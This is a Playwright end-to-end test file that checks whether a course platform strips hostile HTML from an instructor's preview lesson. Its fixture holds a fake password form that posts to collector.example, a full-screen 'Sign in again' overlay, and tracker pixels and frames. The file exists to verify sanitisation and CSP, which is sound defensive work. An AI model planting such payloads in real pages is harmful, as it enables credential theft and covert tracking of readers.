import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  browserAvailable,
  screenshots,
  startBrowserWorld,
  type BrowserWorld,
} from './support/browser';
import { signIn } from './support/flows';
import { api } from './support/page-api';

const PASSWORD = 'classroom123';

/**
 * What a hostile instructor wrote into a preview lesson: a form posting a password to another
 * host, a page-wide style, a full-screen "Sign in again" overlay, and trackers of every kind.
 */
const HOSTILE_MARKDOWN = [
  '## Before you start',
  '',
  'Read this first.',
  '',
  '<form action="https://collector.example/steal" method="post"><input type="password" name="password" placeholder="Password"><button>Sign in</button></form>',
  '',
  '<style>body { background: #000 } .navbar, .player__outline { display: none }</style>',
  '',
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff;font-size:40px">Sign in again</div>',
  '',
  '<img src="https://tracker.example/pixel.gif?who=reader"> ![chart](https://tracker.example/chart.png) ![](//tracker.example/q.png)',
  '',
  '<link rel="stylesheet" href="https://tracker.example/s.css"><iframe src="https://tracker.example/frame"></iframe><video src="https://tracker.example/v.mp4" autoplay></video>',
  '',
  '<p class="page-shell" style="background:url(https://tracker.example/bg.png)">styled</p>',
].join('\n');

/** What the page holds that a hostile article could have brought in. */
async function hostileRemains(page: Page, within: string) {
  return page.evaluate((selector) => {
    const article = document.querySelector(selector)!;
    const positioned = [...article.querySelectorAll('*')].filter((element) =>
      ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(element).position),
    );
    return {
      text: (article.textContent ?? '').includes('Read this first.'),
      elements: article.querySelectorAll(
        'form, input, button, textarea, select, style, link, iframe, video, img, svg',
      ).length,
      styled: article.querySelectorAll('[style], [class], [id]').length,
      positioned: positioned.length,
      pageStyles: [...document.querySelectorAll('style')].some((style) =>
        (style.textContent ?? '').includes('player__outline'),
      ),
      bodyBackground: getComputedStyle(document.body).backgroundColor,
    };
  }, within);
}

/** Every request the page makes to a host other than the site's. */
function outsideRequests(page: Page, site: string): string[] {
  const seen: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).host !== new URL(site).host) seen.push(request.url());
  });
  return seen;
}

describe.runIf(browserAvailable())('an article with hostile HTML', () => {
  let world: BrowserWorld;
  let instructor: Page;
  let admin: Page;
  let student: Page;
  let courseId = '';
  let lessonId = '';
  const url = (path: string) => `${world.server.url}${path}`;

  beforeAll(async () => {
    world = await startBrowserWorld();
    const page = async () =>
      (await world.browser.newContext({ viewport: { width: 1366, height: 850 } })).newPage();
    [instructor, admin, student] = await Promise.all([page(), page(), page()]);
    await signIn(instructor, world.server.url, 'instructor@classroom.test', PASSWORD);
    await signIn(admin, world.server.url, 'admin@classroom.test', PASSWORD);
    await signIn(student, world.server.url, 'student@classroom.test', PASSWORD);

    ({ insertedId: courseId } = await api<{ insertedId: string }>(
      instructor,
      'POST',
      '/api/v1/instructor/add',
      {
        courseName: `Phishing Basics ${Date.now()}`,
        courseCategory: 'Computer Science',
        courseImage: '/demo/course.svg',
        price: 0,
        shortDescription: 'A course with a preview article',
        detailedDescription: 'Its preview article tries everything.',
        language: 'English',
        certificate: 'No',
        lectures: 1,
      },
    ));
    const builder = `/api/v1/instructor/courses/${courseId}/sections`;
    const section = await api<{ insertedId: string }>(instructor, 'POST', builder, {
      title: 'Start here',
    });
    ({ insertedId: lessonId } = await api<{ insertedId: string }>(
      instructor,
      'POST',
      `${builder}/${section.insertedId}/lessons`,
      {
        title: 'Read me first',
        preview: true,
        durationSeconds: 60,
        content: { kind: 'article', markdown: HOSTILE_MARKDOWN },
      },
    ));
    await api(admin, 'PATCH', `/api/v1/courses/approved/${courseId}`);
  }, 240_000);
  afterAll(async () => world?.stop());

  it.each(['admin', 'student'] as const)(
    'reaches the %s through the preview lesson with no form, style, overlay or outside request',
    async (who) => {
      const page = who === 'admin' ? admin : student;
      const outside = outsideRequests(page, world.server.url);
      const answer = await page.goto(url(`/user-dashboard/learn/${courseId}/${lessonId}`));
      await page.locator('.lesson-article').getByText('Read this first.').waitFor();
      await page.waitForLoadState('networkidle');

      expect(await hostileRemains(page, '.lesson-article')).toEqual({
        text: true,
        elements: 0,
        styled: 0,
        positioned: 0,
        pageStyles: false,
        bodyBackground: expect.not.stringMatching(/^rgb\(0, 0, 0\)$/),
      });
      // The outside picture is a link to it, loading nothing.
      await page.locator('.lesson-article').getByRole('link', { name: 'chart' }).waitFor();
      expect(outside).toEqual([]);
      // Were a form to slip through, the browser would still post it nowhere else.
      expect(answer?.headers()['content-security-policy']).toContain("form-action 'self'");
      if (who === 'admin') await screenshots(page, 'hostile-article');
    },
  );

  it("renders the builder's preview with the same renderer: nothing of it survives there either", async () => {
    const outside = outsideRequests(instructor, world.server.url);
    await instructor.goto(url(`/teacher-dashboard/curriculum/${courseId}`));
    await instructor.getByRole('button', { name: "Edit lesson 'Read me first'" }).click();
    await instructor.getByRole('tab', { name: 'Preview' }).click();
    const preview = instructor.getByRole('region', { name: 'Article preview' });
    await preview.getByText('Read this first.').waitFor();
    await instructor.waitForLoadState('networkidle');

    expect(await hostileRemains(instructor, '.curriculum-article')).toMatchObject({
      text: true,
      elements: 0,
      styled: 0,
      positioned: 0,
      pageStyles: false,
    });
    expect(outside).toEqual([]);
    await screenshots(instructor, 'hostile-article-preview');
  });
});
